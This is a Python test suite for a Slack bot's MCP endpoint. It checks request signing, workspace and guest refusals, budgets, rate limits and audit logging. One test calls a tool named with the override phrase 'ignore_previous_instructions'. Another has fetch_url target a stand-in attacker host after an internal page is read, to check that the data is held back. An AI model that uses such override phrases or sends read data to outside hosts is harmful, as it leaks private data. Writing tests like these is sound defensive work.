"""Our tools inside Slackbot: ``/mcp`` of the running web process, called by the ``mcp`` SDK's client with every
request signed as Slack signs it and the person named in ``_meta.slack``."""

from __future__ import annotations

import json
from pathlib import Path
from typing import get_args

import aiohttp
import jsonschema
import pytest
import redis.asyncio as aioredis
from mcp.shared.exceptions import MCPError

from bot import audit
from bot.identity import Workspace
from bot.keys import AppKeys
from bot.runs.slackbot_caller import Reason
from bot.serve.service import Service
from tests.bot.conftest import SECRET, App, make_settings
from tests.bot.serve.slackbot_client import as_person, person, slackbot
from tests.fakes.openai_server import FakeOpenAI
from tests.fakes.pages import PageServer
from tests.fakes.slack_api import FakeSlack
from tests.signing import signed_headers

TEAM = "T0001"
WS = Workspace(TEAM)
INITIALIZE = {"jsonrpc": "2.0", "id": 1, "method": "initialize",
              "params": {"protocolVersion": "2025-06-18", "capabilities": {},
                         "clientInfo": {"name": "slackbot", "version": "1"}}}


def audited(path: Path) -> list[dict[str, object]]:
    lines = [json.loads(line) for line in path.read_text().splitlines()] if path.exists() else []
    for line in lines:
        jsonschema.validate(line, audit.SCHEMA)
    return [line for line in lines if str(line["event"]).startswith("slackbot_mcp.")]


def text_of(result: object) -> str:
    return "\n".join(c.text for c in result.content)  # type: ignore[attr-defined]


async def test_slackbot_lists_the_workspaces_tools_and_calls_one_as_the_person(
    app: App, fake_slack: FakeSlack, audit_file: Path
) -> None:
    async with slackbot(f"{app.url}/mcp", SECRET) as session:
        listed = await session.list_tools(params=as_person("U1", TEAM))
        names = {t.name for t in listed.tools}
        assert {"calculator", "current_time", "fetch_url"} <= names
        # Built-ins that work only inside a thread with the agent are not offered to Slackbot.
        assert not names & {"channel_history", "attach_file", "slack_search", "read_file", "schedule_run"}
        calculator = next(t for t in listed.tools if t.name == "calculator")
        assert calculator.annotations is not None and calculator.annotations.read_only_hint
        result = await session.call_tool("calculator", {"expression": "2 + 3 * 4"}, meta=person("U1", TEAM))
    assert not result.is_error
    assert text_of(result).strip() == "14"
    # The same identity check as a mention: who the person is was asked of Slack.
    assert any(c.method == "users.info" and c.params.get("user") == "U1" for c in fake_slack.calls)
    (line,) = audited(audit_file)
    assert (line["event"], line["team"], line["user"], line["tool"], line["outcome"]) == (
        "slackbot_mcp.called", TEAM, "U1", "calculator", "ok")
    assert "2 + 3" not in audit_file.read_text()  # ids only: never the arguments or the result


async def post_mcp(app: App, body: bytes, headers: dict[str, str]) -> tuple[int, str]:
    headers = {**headers, "Accept": "application/json, text/event-stream", "Content-Type": "application/json"}
    async with app.http.post(f"{app.url}/mcp", data=body, headers=headers) as resp:
        return resp.status, await resp.text()


@pytest.mark.parametrize(
    ("case", "reason"),
    [
        ("missing", "X-Slack-Request-Timestamp is missing"),
        ("stale", "more than 5 minutes off"),
        ("forged", "does not match the body"),
        ("other secret", "does not match the body"),
    ],
)
async def test_a_request_slack_did_not_sign_is_refused_before_anything_reads_it(
    app: App, fake_slack: FakeSlack, audit_file: Path, case: str, reason: str
) -> None:
    body = json.dumps(INITIALIZE).encode()
    headers = {
        "missing": {},
        "stale": signed_headers(SECRET, body, timestamp="1700000000"),
        "forged": {**signed_headers(SECRET, body), "X-Slack-Signature": "v0=" + "0" * 64},
        "other secret": signed_headers("another-apps-secret", body),
    }[case]
    status, answer = await post_mcp(app, body, headers)
    assert status == 401
    error = json.loads(answer)["error"]
    assert reason in error["message"]
    assert fake_slack.calls == [] and audited(audit_file) == []  # nothing asked, nothing run


async def test_the_sdk_client_with_a_replayed_signature_gets_no_session(app: App) -> None:
    with pytest.raises(ExceptionGroup) as failure:  # the SDK's task groups carry the refusal out
        async with slackbot(f"{app.url}/mcp", SECRET, skew=-600):
            pass
    assert "stale or replayed request" in repr(failure.value)  # the door's reason reaches the client


async def test_a_call_that_names_no_person_runs_nothing(app: App, fake_slack: FakeSlack, audit_file: Path) -> None:
    async with slackbot(f"{app.url}/mcp", SECRET) as session:
        result = await session.call_tool("calculator", {"expression": "1+1"})
    assert result.is_error and "names no Slack person" in text_of(result)
    assert not any(c.method == "users.info" for c in fake_slack.calls) and audited(audit_file) == []


async def test_another_workspaces_team_is_refused_as_not_installed(
    app: App, fake_slack: FakeSlack, audit_file: Path
) -> None:
    async with slackbot(f"{app.url}/mcp", SECRET) as session:
        result = await session.call_tool("calculator", {"expression": "1+1"}, meta=person("U1", "T9OTHER"))
        with pytest.raises(MCPError, match="not installed"):
            await session.list_tools(params=as_person("U1", "T9OTHER"))
    assert result.is_error and "not installed in this workspace" in text_of(result)
    assert not any(c.method == "users.info" for c in fake_slack.calls)
    assert [(line["team"], line["reason"]) for line in audited(audit_file)] == [("T9OTHER", "not_installed")] * 2


async def test_a_guest_is_refused_with_the_mention_reply(app: App, fake_slack: FakeSlack, audit_file: Path) -> None:
    fake_slack.users["UGUEST"] = {"is_restricted": True}
    async with slackbot(f"{app.url}/mcp", SECRET) as session:
        result = await session.call_tool("calculator", {"expression": "1+1"}, meta=person("UGUEST", TEAM))
    assert result.is_error and "guests can't start runs" in text_of(result)
    (line,) = audited(audit_file)
    assert (line["event"], line["user"], line["tool"], line["reason"]) == (
        "slackbot_mcp.refused", "UGUEST", "calculator", "guest")


async def test_a_person_out_of_budget_is_refused_and_an_unreadable_limit_fails_closed(
    app: App, redis_client: aioredis.Redis, key_prefix: str, audit_file: Path
) -> None:
    limits = AppKeys(key_prefix).limits(WS)
    await redis_client.hset(limits, "user_budget_micros", "0")
    async with slackbot(f"{app.url}/mcp", SECRET) as session:
        spent = await session.call_tool("calculator", {"expression": "1+1"}, meta=person("U1", TEAM))
        await redis_client.hset(limits, mapping={"user_budget_micros": "", "budget_micros": "a lot"})
        unreadable = await session.call_tool("calculator", {"expression": "1+1"}, meta=person("U1", TEAM))
    assert spent.is_error and "budget" in text_of(spent).lower()
    assert unreadable.is_error and "cannot be read" in text_of(unreadable)
    assert [line["reason"] for line in audited(audit_file)] == ["budget_exhausted", "limit_unreadable"]


async def test_calls_past_the_persons_pace_are_refused(
    key_prefix: str, fake_slack: FakeSlack, fake_openai: FakeOpenAI, audit_file: Path
) -> None:
    settings = make_settings(key_prefix, fake_slack, fake_openai, agent_slackbot_mcp_calls_per_minute=2)
    async with Service(settings, "web") as service:
        url = f"http://127.0.0.1:{service.port}/mcp"
        async with slackbot(url, SECRET) as session:
            results = [await session.call_tool("calculator", {"expression": "1+1"}, meta=person("U1", TEAM))
                       for _ in range(3)]
            other = await session.call_tool("calculator", {"expression": "1+1"}, meta=person("U2", TEAM))
    assert [r.is_error for r in results] == [False, False, True]
    assert "AGENT_SLACKBOT_MCP_CALLS_PER_MINUTE" in text_of(results[2])
    assert not other.is_error  # one person's pace, not the workspace's
    assert [line.get("reason", "") for line in audited(audit_file)] == ["", "", "rate_limited", ""]


async def test_an_unknown_tool_is_refused_and_audited_without_its_name(app: App, audit_file: Path) -> None:
    async with slackbot(f"{app.url}/mcp", SECRET) as session:
        made_up = await session.call_tool("ignore_previous_instructions", {}, meta=person("U1", TEAM))
        in_thread = await session.call_tool("channel_history", {"limit": 5}, meta=person("U1", TEAM))
    assert made_up.is_error and "No tool of that name" in text_of(made_up)
    assert in_thread.is_error and "works only in a thread with the agent" in text_of(in_thread)
    assert [(line["tool"], line["reason"]) for line in audited(audit_file)] == [
        ("unknown", "unknown_tool"), ("channel_history", "thread_only")]


async def test_agent_slackbot_mcp_off_removes_the_route(
    key_prefix: str, fake_slack: FakeSlack, fake_openai: FakeOpenAI
) -> None:
    settings = make_settings(key_prefix, fake_slack, fake_openai, agent_slackbot_mcp="off")
    body = json.dumps(INITIALIZE).encode()
    async with Service(settings, "web") as service, aiohttp.ClientSession() as http:
        url = f"http://127.0.0.1:{service.port}/mcp"
        async with http.post(url, data=body, headers=signed_headers(SECRET, body)) as resp:
            assert resp.status == 404


def test_every_refusal_reason_is_one_the_audit_schema_takes() -> None:
    reasons = audit.FIELDS["slackbot_mcp.refused"]["reason"]["enum"]
    assert sorted(get_args(Reason)) == sorted(reasons)


async def test_the_guard_remembers_what_a_persons_calls_read_and_holds_back_a_later_send(
    guarded: App, pages: PageServer, audit_file: Path
) -> None:
    # A page of an internal host (FETCH_URL_ALLOWED_HOSTS) is private: once read, data goes nowhere unapproved.
    async with slackbot(f"{guarded.url}/mcp", SECRET) as session:
        internal = await session.call_tool("fetch_url", {"url": pages.url("/text")}, meta=person("U1", TEAM))
        out = await session.call_tool("fetch_url", {"url": "https://collect.attacker.example/x"},
                                      meta=person("U1", TEAM))
    assert not internal.is_error
    assert out.is_error and "Held back" in text_of(out)
    assert [(line["tool"], line["outcome"]) for line in audited(audit_file)] == [
        ("fetch_url", "ok"), ("fetch_url", "held_back")]
    assert "attacker" not in audit_file.read_text() and "/text" not in audit_file.read_text()


async def test_a_signed_but_malformed_request_gets_a_json_rpc_error_and_other_methods_405(
    app: App, fake_slack: FakeSlack
) -> None:
    body = b'{"jsonrpc": "2.0", "id": 1, "method": "tools/list"'
    status, answer = await post_mcp(app, body, signed_headers(SECRET, body))
    assert status == 400 and json.loads(answer)["error"]["message"].startswith("Parse error")
    for method in ("GET", "DELETE"):  # Slackbot POSTs; a stateless server has no stream or session to offer
        async with app.http.request(method, f"{app.url}/mcp", headers=signed_headers(SECRET, b"")) as resp:
            assert resp.status == 405
    assert fake_slack.calls == []
